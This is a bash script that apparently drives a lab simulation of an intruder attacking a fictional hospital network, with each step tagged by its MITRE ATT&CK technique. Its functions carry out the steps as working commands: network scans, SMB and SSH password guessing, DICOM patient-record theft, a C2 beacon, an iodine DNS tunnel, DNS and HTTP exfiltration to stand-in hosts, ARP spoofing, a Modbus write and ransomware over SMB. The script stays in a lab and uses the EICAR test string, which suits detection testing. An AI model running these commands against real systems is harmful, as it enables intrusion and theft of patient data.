# attacks.sh - one intruder on one workstation. Order inside a phase, pauses and the workstation come
# from the seed. The "malware" is the EICAR test string, the "locker" a scripted smbclient on the lab's
# own files: nothing here works against anything but this lab.

# id, source (i = intruder, s = second workstation), destination, port, technique, text
ATTACK_TABLE="
recon_scan i 10.20.10.0/26 1-1024 T1046 nmap SYN scan of the server range plus DICOM and HL7 ports
recon_dicom i 10.20.10.10 4242 T1046 nmap dicom-ping against the PACS
c2_beacon i 203.0.113.66 443 T1071.001 HTTPS beacon about every 2 s, self-signed certificate, odd host name
smb_spray i 10.20.10.40 445 T1110.003 password spraying on SMB, 24 failures
ssh_brute i 10.20.10.20 22 T1110.001 SSH password guessing, 8 failures
ldap_dump i 10.20.10.50 389 T1087.002 anonymous dump of the whole directory
dicom_steal i 10.20.10.10 4242 T1213 workstation that is no modality spoofs AE title CT1, lists all patients and retrieves studies
cloud_malware_http i 203.0.113.20 80 T1105 EICAR downloaded from the cloud drive, clear HTTP
cloud_malware_tls s 203.0.113.20 443 T1204.002 EICAR downloaded from the cloud drive, HTTP/2 over TLS
dns_tunnel i 10.20.10.53 53 T1572 iodine tunnel through the hospital resolver, then HTTP inside it
dns_exfil i 10.20.10.53 53 T1048.003 patient list exfiltrated in 90 A queries
exfil_http i 203.0.113.20 80 T1567.002 240 patient records posted to a file drop in clear HTTP
exfil_tls i 203.0.113.20 443 T1567.002 the same records, gzip, HTTP/2 over TLS
exfil_mail s 10.20.10.60 25 T1048.003 patient list mailed to an outside address
exfil_dicom i 203.0.113.66 11112 T1048 stolen images sent by DICOM C-STORE to the internet
hl7_rogue i 10.20.10.20 2575 T1565.002 ADT^A40 patient merge sent by a workstation that is no HL7 source
modbus_write i 10.20.40.20 502 T0855 writes to the building controller from a workstation
arp_spoof i 10.20.0.1 - T1557.002 gratuitous ARP: the workstation claims the gateway's address
ransomware_smb i 10.20.10.40 445 T1486 130 files read, overwritten with random bytes, renamed .rivlock, ransom note dropped
"

PHASES=(
    "recon_scan recon_dicom"
    "smb_spray ssh_brute ldap_dump"
    "dicom_steal cloud_malware_http cloud_malware_tls"
    "dns_tunnel dns_exfil exfil_http exfil_tls exfil_mail exfil_dicom"
    "hl7_rogue modbus_write arp_spoof"
    "ransomware_smb"
)

attacks() {
    local i id beacon=""
    pause attack:first 5000 9000
    for i in "${!PHASES[@]}"; do
        # The beacon starts once the intruder is in, and runs beside everything else.
        [ "$i" != 1 ] || { launch c2_beacon & beacon=$!; }
        # shellcheck disable=SC2086
        for id in $(shuffled "$i" ${PHASES[$i]}); do
            launch "$id"
            pause "attack:$id" 0 600
        done
    done
    wait $beacon
}

# launch ID: runs attack_ID if the run wants it, with the facts of the table.
launch() {
    local id who dst port technique text source
    case ",$ATTACKS," in *",$1,"* | ,1,) ;; *) return 0 ;; esac
    read -r id who dst port technique text <<<"$(grep "^$1 " <<<"$ATTACK_TABLE")"
    source=$(address_of "$INTRUDER")
    [ "$who" = i ] || source=$(address_of $SECOND)
    attack "$id" "$source" "$dst" "$port" "$technique" "$text" -- "attack_$id"
}

# intruder CMD...: on the intruder's workstation.
intruder() { nsx "$INTRUDER" "$@"; }

attack_recon_scan() {
    local p=21-25,53,80,88,104,135,139,389,443,445,1433,2575,3306,3389,4242,5432,8042,11112
    intruder timeout 12 nmap -n -T4 -sS --max-retries 1 -p $p 10.20.10.10 10.20.10.20 10.20.10.21 \
        10.20.10.30 10.20.10.40 10.20.10.50 10.20.10.53 10.20.10.60 10.20.10.70 \
        10.20.40.20 10.20.40.30 10.20.10.2-9
}

attack_recon_dicom() { intruder timeout 10 nmap -n -Pn -p 4242 --script dicom-ping 10.20.10.10; }

attack_c2_beacon() {
    local turn
    for turn in $(seq 20); do
        intruder env SSLKEYLOGFILE="$RUN/keylog" curl -sS -k -m 5 -o /dev/null \
            -A 'Mozilla/5.0 (Windows NT 6.1)' -H 'Cookie: id=8f1c2a' \
            https://cdn7.analytics-js.example/task
        pause "beacon:$turn" 1800 2200
    done
}

attack_smb_spray() {
    local user password tries
    for user in m.durand secretaire sysadm a001 a002 a003 admin dupont; do
        tries=""
        for password in Ete2026! Rivemont2026 Azerty123; do
            intruder timeout 5 smbclient -L //10.20.10.40 -U "RIVEMONT\\$user%$password" -m SMB3 &
            tries="$tries $!"
        done
        # shellcheck disable=SC2086
        wait $tries
    done
    true
}

attack_ssh_brute() {
    local guess tries=""
    for guess in $(seq 8); do
        intruder timeout 6 sshpass -p "Wrong$guess" ssh -o StrictHostKeyChecking=no \
            -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 sysadm@10.20.10.20 id &
        tries="$tries $!"
        # shellcheck disable=SC2086
        [ $((guess % 4)) != 0 ] || { wait $tries; tries=""; }
    done
    true
}

attack_ldap_dump() {
    intruder ldapsearch -x -H ldap://10.20.10.50 -b dc=chu-rivemont,dc=test '(objectClass=*)'
}

attack_dicom_steal() {
    mkdir -p "$RUN/stolen"
    intruder findscu -S -aet CT1 -aec PACSCHU -k 0008,0052=STUDY -k 0010,0010 -k 0010,0020 \
        -k 0010,0030 -k 0020,000D 10.20.10.10 4242
    intruder getscu -od "$RUN/stolen" -S -aet CT1 -aec PACSCHU -k 0008,0052=STUDY \
        -k "0020,000D=$(cat "$RUN/study-uid")" 10.20.10.10 4242
}

attack_cloud_malware_http() { web "$INTRUDER" -L http://drive.cloudapp.example/eicar.com; }

attack_cloud_malware_tls() { web $SECOND https://drive.cloudapp.example/eicar.com; }

# -m 900 skips iodine's long probe of the fragment size.
attack_dns_tunnel() {
    local tunnel
    intruder timeout 16 iodine -f -r -m 900 -T TXT -P Exercice1 -d dnst0 10.20.10.53 t.cdn-sync.example &
    tunnel=$!
    for _ in $(seq 50); do
        ip -n "$NS-$INTRUDER" -br addr show dnst0 2>/dev/null | grep -q 172.31 && break
        sleep 0.2
    done
    intruder ping -c 4 -i 0.5 -W 1 172.31.99.1
    intruder curl -s -m 6 -o /dev/null -r 0-24000 http://172.31.99.1/doc.bin
    wait $tunnel
}

attack_dns_exfil() {
    base32 -w 0 "$RUN/data/exfil/extrait.txt" | tr -d = | tr '[:upper:]' '[:lower:]' | fold -w 56 |
        head -90 | awk '{ print NR "-" $0 ".x.analytics-js.example A" }' >"$RUN/queries.txt"
    intruder dig +noall +tries=1 +time=1 -f "$RUN/queries.txt"
}

attack_exfil_http() {
    web "$INTRUDER" -F "file=@$RUN/data/exfil/patients.csv;type=text/csv" \
        http://depot.filedrop.example/upload
}

attack_exfil_tls() {
    gzip -c "$RUN/data/exfil/patients.csv" >"$RUN/patients.gz"
    web "$INTRUDER" -F "file=@$RUN/patients.gz" https://depot.filedrop.example/upload
}

attack_exfil_mail() {
    nsx $SECOND swaks --server 10.20.10.60 --from "secretariat@$DOMAIN" --to jean.perso@freemail.example \
        --h-Subject liste --attach-type text/csv --attach "$RUN/data/exfil/patients.csv"
}

attack_exfil_dicom() {
    intruder storescu -aet CT1 -aec LEAK 203.0.113.66 11112 "$RUN"/data/dcm/ct/ct1_*.dcm
}

attack_hl7_rogue() { hl7 "$INTRUDER" rogue.hl7; }

attack_modbus_write() {
    intruder "$PY" "$LAB/parts/programs/modbus_client.py" 10.20.40.20 write
}

# The last command gives the gateway its address back in the caches of the others.
attack_arp_spoof() {
    ip -n "$NS-$INTRUDER" addr add 10.20.0.1/32 dev eth0
    intruder arping -q -U -c 3 -I eth0 10.20.0.1
    ip -n "$NS-$INTRUDER" addr del 10.20.0.1/32 dev eth0
    nsx fw arping -q -U -c 1 -I eth0 10.20.0.1
    true
}

attack_ransomware_smb() { smb_script "$INTRUDER" m.durand "$RUN/smb_ransom.txt"; }
